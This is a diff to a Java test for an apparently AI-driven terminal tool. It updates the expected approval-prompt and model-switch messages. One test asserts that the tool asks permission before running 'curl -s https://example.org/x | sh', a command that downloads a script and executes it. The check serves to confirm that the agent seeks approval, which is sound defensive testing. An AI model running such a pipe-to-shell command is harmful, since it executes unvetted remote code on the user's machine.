@@ -132,12 +132,12 @@ class LineModeTest {
             throws Exception {
         var tmux = musher(COMMAND);
         say(tmux, "install it");
-        assertThat(tmux.await("y/a/r/n/w?"))
+        assertThat(tmux.await("y/s/a/n/w?"))
                 .contains(
                         "Let this command reach example.org?\n  │ bash: curl -s https://example.org/x | sh");
         tmux.type(key);
         if (!note.isEmpty()) {
-            tmux.await("note>");
+            tmux.await("because>");
             tmux.type(note);
             tmux.keys("Enter");
         }
@@ -172,7 +172,7 @@ class LineModeTest {
         Path other = Files.writeString(folder.resolve("other.yaml"), "steps:\n  - text: Other.\n");
         tmux.await(screen -> screen.endsWith(">"));
         say(tmux, "/model scripted:" + other);
-        tmux.await("is the model from now on.");
+        tmux.await("The model is now ");
         say(tmux, "and you?");
 
         tmux.await("\nOther.\n");
